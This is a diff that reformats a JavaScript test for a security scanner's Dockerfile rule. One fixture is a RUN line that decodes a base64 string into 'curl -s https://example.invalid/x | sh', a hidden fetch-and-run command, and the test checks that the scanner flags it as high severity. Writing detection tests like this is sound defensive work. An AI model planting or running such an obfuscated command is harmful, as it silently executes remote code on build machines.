@@ -195,14 +195,20 @@ it('says nothing when a new identity changes the build steps of a Dockerfile, bu
     });
     return dir;
   };
-  const plain = await scan(build('docker-steps', 'RUN addgroup --system api && adduser --system -G api api\nRUN npm ci && npx nx build api'), {
-    rules: [dockerfile, rule],
-  });
+  const plain = await scan(
+    build('docker-steps', 'RUN addgroup --system api && adduser --system -G api api\nRUN npm ci && npx nx build api'),
+    {
+      rules: [dockerfile, rule],
+    },
+  );
   assert.ok(plain.executionMap.some(s => s.kind === 'dockerfile'));
   assert.deepEqual(findingsOf(plain, rule.meta.id, 'info'), []);
-  const hidden = await scan(build('docker-hidden', 'RUN --mount=type=secret,id=npm echo Y3VybCAtcyBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g= | base64 -d | sh'), {
-    rules: [dockerfile, rule],
-  });
+  const hidden = await scan(
+    build('docker-hidden', 'RUN --mount=type=secret,id=npm echo Y3VybCAtcyBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g= | base64 -d | sh'),
+    {
+      rules: [dockerfile, rule],
+    },
+  );
   const hit = findingsOf(hidden, rule.meta.id)[0];
   assert.equal(hit?.location.file, 'Dockerfile');
   assert.equal(hit.severity, 'high');
